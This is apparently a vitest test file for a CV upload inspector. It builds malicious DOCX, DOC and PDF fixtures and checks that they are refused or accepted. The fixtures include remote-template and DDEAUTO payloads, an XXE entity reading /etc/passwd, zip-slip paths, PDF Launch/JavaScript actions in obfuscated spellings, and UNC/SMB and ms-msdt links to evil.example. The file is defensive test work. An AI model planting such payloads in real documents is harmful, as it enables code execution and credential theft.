import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { inspectCv } from "#app/features/applications/cv/cv-file.server.ts";
import { compoundFileOf } from "#demo/compound-file.ts";
import { docxOf, docxParts, pdfOf, sampleDoc, sampleDocx, samplePdf } from "#demo/sample-cv.ts";
import { processorMs } from "#test/servers/processor-time.ts";

const pdf = Buffer.from(samplePdf(["Lina Halabi", "Accountant"]));
const docx = Buffer.from(sampleDocx(["Lina Halabi"]));
const doc = Buffer.from(sampleDoc());
const html = Buffer.from("<html><script>alert(document.domain)</script></html>");
const parts = docxParts(["Lina Halabi"]);
const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

async function verdict(bytes: Uint8Array, name: string) {
  const result = await inspectCv(bytes, name);
  return result.ok ? "accepted" : result.reason.replace("applications.", "");
}

const word = (more: Record<string, string | Uint8Array>) => docxOf({ ...parts, ...more });

function link(type: string, target: string, encode = (xml: string) => Buffer.from(xml)) {
  const xml = `<Relationships><Relationship Id="r" Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`;
  return word({ "word/_rels/settings.xml.rels": encode(xml) });
}

const pdfThat = (acts: string, more: string[] = []) =>
  pdfWith({ catalog: `/OpenAction << ${acts} >>`, more });

function pdfWith({ catalog = "", page = "", more = [] as string[] }): Uint8Array {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${page} >>`,
    ...more,
  ]);
}

/** An object stream, where objects are compressed. */
function packed(number: number, object: string): string {
  const head = `${number} 0 `;
  const data = deflateSync(Buffer.from(head + object)).toString("latin1");
  return `<< /Type /ObjStm /N 1 /First ${head.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`;
}

const evil = "http://evil.example/t.dotm";

describe("a CV that is more than a CV", () => {
  it.each<[string, Uint8Array, string, string]>([
    ["a PDF with a ZIP behind it", Buffer.concat([pdf, docx]), "cv.pdf", "cvUnsafe"],
    ["a doc with a ZIP behind it", Buffer.concat([doc, docx]), "cv.doc", "cvUnsafe"],
    ["a page before a PDF", Buffer.concat([html, pdf]), "cv.pdf", "cvHtml"],
    ["a page before a docx", Buffer.concat([html, docx]), "cv.docx", "cvHtml"],
    ["a page named .doc", html, "cv.doc", "cvHtml"],
    ["a page named .pdf", html, "cv.pdf", "cvHtml"],
    ["a stored web page named .doc", Buffer.from("MIME-Version: 1.0\r\n"), "cv.doc", "cvHtml"],
    ["nothing", Buffer.alloc(0), "cv.pdf", "cvDamaged"],
    ["half a PDF", pdf.subarray(0, pdf.length / 2), "cv.pdf", "cvDamaged"],
    ["half a docx", docx.subarray(0, docx.length / 2), "cv.docx", "cvDamaged"],
    ["half a doc", doc.subarray(0, doc.length / 2), "cv.doc", "cvDamaged"],
  ])("APPLY-03 %s is refused", async (_, bytes, name, reason) => {
    expect(await verdict(bytes, name)).toBe(reason);
  });

  it("APPLY-03 a macro is found by its relationship, under any name of its part", async () => {
    const type = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
    const renamed = word({
      "word/fonts.dat": "x",
      "word/_rels/document.xml.rels": `<Relationships><Relationship Id="r" Type="${type}" Target="fonts.dat"/></Relationships>`,
    });
    expect(await verdict(renamed, "cv.docx")).toBe("cvUnsafe");
    const enabled = parts["[Content_Types].xml"]?.replace("document.main", "macroEnabled.main");
    expect(await verdict(word({ "[Content_Types].xml": enabled ?? "" }), "cv.docx")).toBe(
      "cvUnsafe",
    );
  });

  it("APPLY-03 content that Word would fetch is found in any spelling of XML", async () => {
    const wide = (xml: string) => Buffer.from(`\ufeff${xml}`, "utf16le");
    const unmarked = (xml: string) => Buffer.from(xml, "utf16le");
    for (const bytes of [
      link(`${office}/attached&#84;emplate`, evil),
      link(`${office}/attached&#x54;emplate`, evil),
      link(`${office}/attachedTemplate`, evil.replace("h", "&#104;")),
      link(`${office}/attachedTemplate`, evil, wide),
      link(`${office}/attachedTemplate`, evil, unmarked),
      link(`${office}/attachedTemplate`, evil, (xml) => wide(xml).swap16()),
      link(`${office}/aFChunk`, "http://evil.example/page.html"),
    ]) {
      expect(await verdict(bytes, "cv.docx")).toBe("cvActs");
    }
    expect(await verdict(link(`${office}/hyperlink`, "https://a.example/&#120;"), "cv.docx")).toBe(
      "accepted",
    );
  });

  it("APPLY-03 parts that leave their folder, or declare entities, are refused", async () => {
    for (const name of ["../../evil.sh", "word/../../evil.sh", "..\\evil.exe", "C:\\evil.exe"]) {
      expect(await verdict(word({ [name]: "x" }), "cv.docx"), name).toBe("cvUnsafe");
    }
    const entity = '<!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:styles>&e;</w:styles>';
    expect(await verdict(word({ "word/styles.xml": entity }), "cv.docx")).toBe("cvUnsafe");
  });

  it("APPLY-03 a program that a PDF starts is found in any spelling", async () => {
    for (const acts of [
      "/S /Launch /F (evil.exe)",
      "/S /L#61unch /F (evil.exe)",
      "/#53 /#4c#61#75#6e#63#68 /F (evil.exe)",
      "/S /Launch /F (evil\\056exe)",
      "/S /Launch /F <6576696c2e657865>",
      "/S /Launch /F <feff006500760069006c002e006500780065>",
      "/S /Launch /Win << /F (cmd) /P (/c calc) >>",
    ]) {
      expect(await verdict(pdfThat(acts), "cv.pdf"), acts).toBe("cvActs");
    }
  });

  it("APPLY-03 actions by the hundred thousand do not hold the others up", async () => {
    const many = `/S /Launch ${"(".repeat(700)}\n`.repeat(6000);
    expect(await verdict(pdfThat(many), "cv.pdf")).toBe("cvActs");
  });
});

const paragraph = (content: string) =>
  word({
    "word/document.xml":
      parts["word/document.xml"]?.replace("<w:body>", `<w:body>${content}`) ?? "",
  });
const field = (...pieces: string[]) =>
  paragraph(
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join("")}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  );
/** A field whose instruction is made of others. */
const around = (...inner: string[]) => {
  const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
  const of = (instruction: string) =>
    `${mark("begin")}<w:r><w:instrText>${instruction}</w:instrText></w:r>${mark("separate")}${mark("end")}`;
  return paragraph(
    `<w:p>${mark("begin")}${inner.map(of).join("")}${mark("separate")}${mark("end")}</w:p>`,
  );
};
const simpleField = (instruction: string) =>
  paragraph(`<w:p><w:fldSimple w:instr="${instruction}"/></w:p>`);
const oldFile = (content: string) =>
  compoundFileOf({
    WordDocument: Buffer.concat([wordHead, Buffer.from(content, "latin1")]),
    "1Table": Buffer.alloc(64),
  });
const wordHead = Buffer.alloc(4096);
wordHead.writeUInt16LE(0xa5ec, 0);
wordHead.writeUInt16LE(0xc1, 2);
wordHead.writeUInt16LE(0x0200, 0x0a);

describe("A6 a CV that acts when it is opened", () => {
  const share = "\\\\evil\\share";
  it.each<[string, Uint8Array]>([
    ["a picture on a share", link(`${office}/image`, "file://evil/share/x.png")],
    ["a picture on a share, in Windows' spelling", link(`${office}/image`, `${share}\\x.png`)],
    ["a picture in the web", link(`${office}/image`, "http://evil.example/x.png")],
    ["a video", link(`${office}/video`, "https://evil.example/x.mp4")],
    ["sound", link(`${office}/audio`, "file:////evil/x.wav")],
    ["a table of another file", link(`${office}/externalLink`, `file:///${share}`)],
    ["a kind of link that nobody knows yet", link(`${office}/later`, "http://evil.example")],
    ["a DDE field", field('DDEAUTO c:\\windows\\cmd.exe "/k calc"')],
    ["a DDE field in pieces", field("DD", "EAUTO c:\\cmd.exe")],
    ["a DDE field in one tag", simpleField("DDE excel sheet r1c1")],
    ["a DDE field in numbers", field("&#68;DEAUTO c:\\cmd.exe")],
    ["a text from a share", field('INCLUDETEXT "\\\\\\\\evil\\\\share\\\\x"')],
    ["a picture that is not stored", field('INCLUDEPICTURE "http://evil.example/x.png" \\d')],
    ["a stored picture of a server", field('INCLUDEPICTURE "http://evil.example/x.png"')],
    [
      "a picture pasted from a page",
      field('INCLUDEPICTURE "https://a.example/x.png" \\* MERGEFORMATINET'),
    ],
    ["a picture of a share", field('INCLUDEPICTURE "\\\\\\\\evil\\\\share\\\\x.png"')],
    ["a picture of a share, in slashes", field("INCLUDEPICTURE //evil/share/x.png")],
    ["a picture of a file", field('INCLUDEPICTURE "file:///C:/me.png"')],
    ["a picture in one tag", simpleField("INCLUDEPICTURE smb://evil/x.png")],
    ["a text of a file", field('INCLUDETEXT "file:///C:/x.docx"')],
    ["a part in another document", link(`${office}/subDocument`, "file:///x")],
    ["a part in a document beside it", link(`${office}/subDocument`, "chapter.docx")],
    ["an object in a file", link(`${office}/oleObject`, "file:///C:/x.xlsx")],
    ["addresses from a file", link(`${office}/mailMergeSource`, "file:///C:/people.xlsx")],
    ["a table linked to a workbook", field("LINK Excel.Sheet.12 c:\\\\x.xlsx")],
    ["a DDE field in a quotation", field("QUOTE 68 68 69 65 85 84 79")],
    ["a DDE field around quotations", around("QUOTE 68 68 69", 'QUOTE "AUTO "')],
    ["a DDE field in quoted letters", around('QUOTE "D"', 'QUOTE "DE "')],
    ["a DDE field parted by another", around("PAGE", 'QUOTE "DDE x"')],
    ["fields in fields without end", paragraph('<w:fldChar w:fldCharType="begin"/>'.repeat(100))],
    ["a link to a share", link(`${office}/hyperlink`, `${share}\\cv`)],
    ["a link to a share, as an address", link(`${office}/hyperlink`, "file://evil/x")],
    [
      "a link to a search",
      link(`${office}/hyperlink`, "search-ms:query=x&amp;crumb=location:evil"),
    ],
    ["a link to a program's own scheme", link(`${office}/hyperlink`, "ms-msdt:/id PCWDiagnostic")],
    ["a link to a script", link(`${office}/hyperlink`, "javascript:alert(1)")],
    [
      "a link to a program of its reader's",
      link(`${office}/hyperlink`, "file:///C:/Windows/System32/cmd.exe"),
    ],
    ["a field that links to a share", field(`HYPERLINK "\\\\\\\\evil\\\\share"`)],
    ["a field that links to a search", field('HYPERLINK \\o "Tip" "search-ms:query=x"')],
    [
      "a file in an object",
      word({
        "word/embeddings/oleObject1.bin": compoundFileOf({ "\x01Ole10Native": Buffer.alloc(64) }),
      }),
    ],
    ["a program among its parts", word({ "word/media/image1.png": "MZ\x90\0" })],
  ])("a docx with %s is refused", async (_, bytes) => {
    expect(await verdict(bytes, "cv.docx")).toBe("cvActs");
  });

  it.each<[string, Uint8Array]>([
    ["a link to an address", link(`${office}/hyperlink`, "mailto:rima@a.example")],
    ["a link to a number", link(`${office}/hyperlink`, "tel:+963944000101")],
    ["a link to a place in it", link(`${office}/hyperlink`, "#experience")],
    ["a link without a scheme", link(`${office}/hyperlink`, "www.linkedin.com")],
    ["a field that links to a place in it", field('HYPERLINK \\l "experience"')],
    ["a quotation", around('QUOTE "24 dishes" 7', "PAGE")],
    ["links that a person presses", link(`${office}/hyperlink`, "https://linkedin.example/rima")],
    ["a link to a file", link(`${office}/hyperlink`, "file:///C:/letter.docx")],
    [
      "the template of its writer's computer",
      link(`${office}/attachedTemplate`, "file:///C:/cv.dotx"),
    ],
    ["a picture's path on its writer's computer", link(`${office}/image`, "file:///C:/me.png")],
    ["fields", field("HYPERLINK ", '"https://a.example"')],
    ["page numbers, and the word dde", field("PAGE")],
    ["a picture beside it", field('INCLUDEPICTURE "me.png" \\* MERGEFORMAT')],
    ["a picture on its writer's disk", field('INCLUDEPICTURE "C:\\\\me.png" \\d')],
  ])("a docx with %s is taken", async (_, bytes) => {
    expect(await verdict(bytes, "cv.docx")).toBe("accepted");
  });

  it.each([
    ["\x13 DDEAUTO c:\\cmd.exe \x14\x15", "cvActs"],
    ['\x13 INCLUDETEXT "http://evil.example/x" \x15', "cvActs"],
    [Buffer.from("\x13 DDE excel x\x14", "utf16le").toString("latin1"), "cvActs"],
    ["\x13 LINK Excel.Sheet.12 c:\\x.xlsx \x15", "cvActs"],
    ['\x13 INCLUDEPICTURE "http://evil.example/x.png" \x14\x15', "cvActs"],
    ["\x13 \x13 QUOTE 68 68 69 \x15 excel x \x15", "cvActs"],
    ['\x13 HYPERLINK "file://evil/x" \x14 Page \x15', "cvActs"],
    ['\x13 HYPERLINK "http://a.example" \x14 Dde \x15', "accepted"],
  ])("an old Word file with %j is %s", async (content, expected) => {
    expect(await verdict(oldFile(content), "cv.doc")).toBe(expected);
  });

  const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
  const pressed = (action: string, ...more: string[]) =>
    pdfWith({ page: `/Annots [<< /Subtype /Link /A ${action} >>]`, more });
  const outside = pdfOf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
    "<< /Length 0 /F (//evil/share/x) >>\nstream\n\nendstream",
  ]);
  const attached = (name: string) =>
    pdfWith({
      catalog: "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
      more: [`<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 5 0 R >> >>`],
    });
  it.each<[string, Uint8Array]>([
    ["a script", pdfThat("/S /JavaScript /JS (app.alert\\(1\\))")],
    ["a script in other letters", pdfThat("/S /Java#53cript /#4aS (1)")],
    [
      "a page behind comments",
      pdfWith({ catalog: "/OpenAction % c\n << /S % c\n /URI /URI (http://a.example) >>" }),
    ],
    ["a form that is sent", pdfThat("/S /SubmitForm /F (http://evil.example)")],
    ["a page of the web", pdfThat("/S /URI /URI (http://evil.example)")],
    ["data from a file", pdfThat("/S /ImportData /F (x.fdf)")],
    ["another file", pdfThat("/S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit]")],
    ["a file in it", pdfThat("/S /GoToE /F (\\\\\\\\evil) /D [0 /Fit]")],
    ["a launched document", pdfThat("/S /Launch /F (certificates.pdf)")],
    ["a script after a place", pdfThat(`/S /GoTo /D [3 0 R /Fit] /Next ${script}`)],
    [
      "a page by references",
      pdfWith({
        catalog: "/OpenAction 4 0 R",
        more: ["<< /S 5 0 R /URI (http://evil.example) >>", "/URI"],
      }),
    ],
    ["an action of a type that is missing", pdfThat("/S 9 0 R /URI (http://evil.example)")],
    [
      "a list of actions by reference",
      pdfThat("/S /GoTo /D [3 0 R /Fit] /Next 4 0 R", [`[${script}]`]),
    ],
    [
      "a list of references to actions",
      pdfThat("/S /GoTo /D [3 0 R /Fit] /Next 4 0 R", ["[5 0 R]", script]),
    ],
    ["a script by reference", pdfWith({ catalog: "/OpenAction 4 0 R", more: [script] })],
    ["a packed script", pdfWith({ catalog: "/OpenAction 9 0 R", more: [packed(9, script)] })],
    ["a packed catalog", pdfWith({ more: [packed(9, `<< /OpenAction ${script} >>`)] })],
    ["a script of a page", pdfWith({ page: `/AA << /O ${script} >>` })],
    [
      "a script of the whole file",
      pdfWith({ catalog: "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", more: [script] }),
    ],
    ["a script behind a press", pressed(script)],
    ["a script behind a press, by reference", pressed("4 0 R", script)],
    ["a packed script behind a press", pressed("9 0 R", packed(9, script))],
    ["a script of a type by reference", pressed("<< /S 4 0 R /JS (1) >>", "/JavaScript")],
    ["a script behind a comment", pressed("<< /S % a\n /JavaScript /JS (1) >>")],
    ["a script after a link", pressed(`<< /S /URI /URI (https://a.example) /Next ${script} >>`)],
    ["a script of a field", pdfWith({ page: `/Annots [<< /AA << /K ${script} >> >>]` })],
    ["a script of a place pressed", pdfWith({ page: `/Annots [<< /AA << /D ${script} >> >>]` })],
    ["a document launched by a press", pressed("<< /S /Launch /F (certificates.pdf) >>")],
    ["a stream that hides a script", pdfWith({ page: `/T (stream) /A ${script} /X (endstream)` })],
    ["a stream in another file", outside],
    ["a link to a share", pressed("<< /S /URI /URI (file://evil/share/x) >>")],
    ["a link to a share by reference", pressed("<< /S /URI /URI 4 0 R >>", "(smb://evil/x)")],
    ["a link to a search", pressed("<< /S /URI /URI (search-ms:query=x) >>")],
    ["a link to a program's own scheme", pressed("<< /S /URI /URI <6d732d776f72643a61> >>")],
    [
      "a packed link to a program of its reader's",
      pressed("9 0 R", packed(9, "<< /S /URI /URI (file:///C:/Windows/calc.exe) >>")),
    ],
    ["a link to a file on a share", pressed("<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>")],
    [
      "a link to a file on a share, by its description",
      pressed("<< /S /GoToR /F 4 0 R >>", "<< /Type /Filespec /UF (//evil/x.pdf) >>"),
    ],
    ["a program in it", attached("cv.exe")],
    ["a macro document in it", attached("cv.docm")],
    [
      "a file without a name in it",
      pdfWith({ more: ["<< /Type /Filespec /EF << /F 5 0 R >> >>"] }),
    ],
  ])("a PDF with %s is refused", async (_, bytes) => {
    expect(await verdict(bytes, "cv.pdf")).toBe("cvActs");
  });

  it.each<[string, Uint8Array]>([
    ["a place to open at", pdfThat("/S /GoTo /D [3 0 R /XYZ null null 0]")],
    [
      "a place by references",
      pdfWith({ catalog: "/OpenAction 4 0 R", more: ["<< /S 5 0 R /D [3 0 R /Fit] >>", "/GoTo"] }),
    ],
    [
      "a place in another object",
      pdfWith({ catalog: "/OpenAction 4 0 R", more: ["[3 0 R /Fit]"] }),
    ],
    ["a place alone", pdfWith({ catalog: "/OpenAction [3 0 R /Fit]" })],
    [
      "a place on a page with links",
      pdfWith({
        catalog: "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
        page: "/Annots [4 0 R]",
        more: ["<< /Subtype /Link /A << /S /URI /URI (https://linkedin.example) >> >>"],
      }),
    ],
    [
      "a link to another file, for a person to press",
      pdfWith({ page: "/Annots [<< /A << /S /GoToR /F (letter.pdf) >> >>]" }),
    ],
    ["a link to a page of the web", pressed("<< /S /URI /URI (https://linkedin.example) >>")],
    ["a link to an address", pressed("<< /S /URI /URI (mailto:rima@a.example) >>")],
    ["a link to a chat", pressed("<< /S /URI /URI (whatsapp://send?phone=963944000101) >>")],
    ["a link without a scheme", pressed("<< /S /URI /URI (www.linkedin.example/rima) >>")],
    ["a link to its writer's folder", pressed("<< /S /URI /URI (file:///C:/Users/rima/a) >>")],
    ["words on scripts", pdfWith({ catalog: "/Lang (en)", page: "/T (PHP/JavaScript, /Launch)" })],
    ["the data of a Europass CV", attached("europass.xml")],
    [
      "a font called AA",
      pdfWith({
        page: "/Resources << /Font << /AA 4 0 R /F 4 0 R >> >>",
        more: ["<< /Type /Font /Subtype /Type1 /BaseFont /AAAAAA+Arial >>"],
      }),
    ],
  ])("a PDF with %s is taken", async (_, bytes) => {
    expect(await verdict(bytes, "cv.pdf")).toBe("accepted");
  });

  const uri = (target: string) => pressed(`<< /S /URI /URI <${hex(target)}> >>`);
  const hex = (text: string) => Buffer.from(text, "latin1").toString("hex");
  const linked = (target: string) => link(`${office}/hyperlink`, target);

  it.each([
    "htpp://linkedin.example/in/rima",
    "hhttps://a.example",
    "Linkedin: https://a.example",
    "Portfolio:https://a.example",
    "Email:rima@a.example",
    "e-mail:rima@a.example",
    "mail:rima@a.example",
    "phone:+963944000101",
    "mobile:0944000101",
    "www.a.example:8080/x",
    "www.company.com",
    "localhost:3000",
    "javascript:void(0)",
    "javascript:void(0);",
    "javascript:;",
    "javascript:",
    "about:blank",
    "ftp://a.example/cv.pdf",
    "urn:isbn:1",
    "doi:10.1000/1",
    "fb://profile/1",
    "instagram://user?username=rima",
    "zoommtg://zoom.example/join",
    "facetime:rima@a.example",
    "sip:rima@a.example",
    "blob:https://a.example/1",
    "https%3A%2F%2Fa.example",
    "https://a.example/tool.exe",
    "file:///C:/Users/rima/C%23/cv.pdf",
    "file://localhost/Users/rima/cv.pdf",
    "file://C:/Users/rima/cv.pdf",
    "C:\\Users\\rima\\a.example.com\\cv.pdf",
    "/in/rima",
    "../letters/first.pdf",
  ])("a link to %j is accepted", async (target) => {
    expect(await verdict(uri(target), "cv.pdf")).toBe("accepted");
    expect(await verdict(linked(target), "cv.docx")).toBe("accepted");
  });

  it.each([
    "/\\evil\\share",
    "\\/evil/share",
    "//evil/share",
    "file:////evil/share",
    "file:///%5C%5Cevil/x",
    "file:///.//evil/x",
    "file:\\\\evil\\x",
    "f\tile://evil",
    "sm\tb://evil",
    "\x01smb://evil",
    " url:smb://evil",
    "nfs://evil/x",
    "webdavs://evil/x",
    "ldap://evil",
    "search:query=x",
    "ms-word:ofe|u|http://evil.example/x.docx",
    "excel:http://evil.example/x.xlsx",
    "vbscript:x",
    "javascript:void(alert(1))",
    "data:text/html,x",
    "jar:http://evil.example!/x",
    "ssh://evil",
    "shell:startup",
    "file:///C:/a.exe#x",
    "file:///C:/a.exe#41",
    "file:///C:/a.exe?x",
    "file:///C:/a%2eexe",
    "file:///C:/a.exe.",
    "file:///C:/Windows/System32/cmd.exe /c calc",
    "cmd.exe /c calc",
    "..\\..\\Windows\\System32\\calc.exe",
    ..."cpl msc reg chm url scf iso img vhd docm xlsm pptm desktop appref-ms application gadget msp psm1 wsh pdf.exe"
      .split(" ")
      .map((ending) => `file:///C:/a.${ending}`),
  ])("a link to %j is refused", async (target) => {
    expect(await verdict(uri(target), "cv.pdf")).toBe("cvActs");
    expect(await verdict(linked(target), "cv.docx")).toBe("cvActs");
  });

  const goTo = (file: string, ...more: string[]) => pressed(`<< /S /GoToR /F ${file} >>`, ...more);
  const long = "a".repeat(5000);
  it.each<[string, Uint8Array]>([
    ["a comment before a link", pressed("<< /S /URI /URI % c\n (smb://evil/x) >>")],
    ["a comment at once", pressed("<< /S /URI /URI%c\n(file://evil/share/x) >>")],
    ["comments and blanks", pressed(`<< /URI ${"% (c)\n\0 ".repeat(40)}(smb://evil/x) >>`)],
    ["a comment without end", pressed(`<< /URI %${long}\n(smb://evil/x) >>`)],
    ["a comment in a reference", pressed("<< /S /URI /URI 4 % c\n 0 R >>", "% c\n(smb://evil/x)")],
    ["a comment before a file", goTo("% c\n (\\\\\\\\evil\\\\x.pdf)")],
    ["a # in a link", pressed("<< /S /URI /URI (file:///C:/a.exe#41) >>")],
    ["a long link", pressed(`<< /S /URI /URI (smb://evil/${long}) >>`)],
    ["a long link in brackets", pressed(`<< /URI (smb://x/${"(".repeat(900)}${long} >>`)],
    ["a long path", pressed(`<< /S /URI /URI (file:///C:/${"/".repeat(5000)}a.exe) >>`)],
    ["a base of links", pdfWith({ catalog: "/URI << /Base (file://evil/) >>" })],
    ["a file of DOS", goTo("4 0 R", "<< /Type /Filespec /DOS (\\\\\\\\evil\\\\x) >>")],
    ["a file of Mac", goTo("4 0 R", "<< /Type /Filespec /Mac (smb://evil/x) >>")],
    ["a file of Unix", goTo("<< /Type /Filespec /Unix (//evil/x) >>")],
    ["a share of a file specification", goTo("(/evil/share/x.pdf)")],
    ["its other name", goTo("<< /F (x.pdf) /UF (/evil/share/x.pdf) >>")],
    ["a share in UTF-16", goTo(`<feff${hex("\0/\0e\0v\0/\0x\0/\0y")}>`)],
  ])("a PDF with a link by %s is refused", async (_, bytes) => {
    expect(await verdict(bytes, "cv.pdf")).toBe("cvActs");
  });

  it.each<[string, Uint8Array]>([
    ["a path on a drive", goTo("(/c/letters/x.pdf)")],
    ["a path at home", goTo("(/home/rima/x.pdf)")],
    ["a relative path", goTo("(letters/first/x.pdf)")],
    ["a name in Arabic", goTo(`<feff062f002f062f002e007000640066>`)],
    ["a comment before a page", pressed("<< /S /URI % c\n /URI % c\n (https://a.example) >>")],
    ["a long address", pressed(`<< /S /URI /URI (https://a.example/${long}) >>`)],
    ["a base of pages", pdfWith({ catalog: "/URI << /Base (https://a.example/) >>" })],
  ])("a PDF with a link by %s is accepted", async (_, bytes) => {
    expect(await verdict(bytes, "cv.pdf")).toBe("accepted");
  });

  it.each([
    ['HYPERLINK "Linkedin: https://a.example"', "accepted"],
    ['HYPERLINK "javascript:void(0)"', "accepted"],
    [`HYPERLINK "https://a.example/${long}"`, "accepted"],
    ['HYPERLINK "file:///C:\\\\a.exe#x"', "cvActs"],
    ["HYPERLINK \\\\\\\\evil\\\\share", "cvActs"],
    [`HYPERLINK "file://evil/${long}"`, "cvActs"],
    [`HYPERLINK "file:///C:/${"/".repeat(5000)}a.exe"`, "cvActs"],
  ])("a docx with the field %.50s is %s", async (instruction, expected) => {
    expect(await verdict(field(instruction), "cv.docx")).toBe(expected);
  });

  it("triggers by the hundred thousand do not hold the others up", async () => {
    const ms = await processorMs(async () => {
      const many = "/AA << /O 4 0 R >> ".repeat(200_000);
      await verdict(pdfWith({ page: many }), "cv.pdf");
      await verdict(pdfWith({ page: "/EF << ".repeat(200_000) }), "cv.pdf");
      for (const piece of ["/URI (", "/URI%", "/URI % c\n", "/URI 4 0 R ", "/S%", "/#55"]) {
        await verdict(pdfWith({ page: piece.repeat(200_000) }), "cv.pdf");
      }
      const objects = "4 0 obj (x) endobj ".repeat(20_000);
      await verdict(pdfWith({ page: "/URI 4 0 R ".repeat(20_000), more: [objects] }), "cv.pdf");
      await verdict(link(`${office}/hyperlink`, "/.exe ..".repeat(30_000)), "cv.docx");
    });
    expect(ms).toBeLessThan(5000);
  });
});
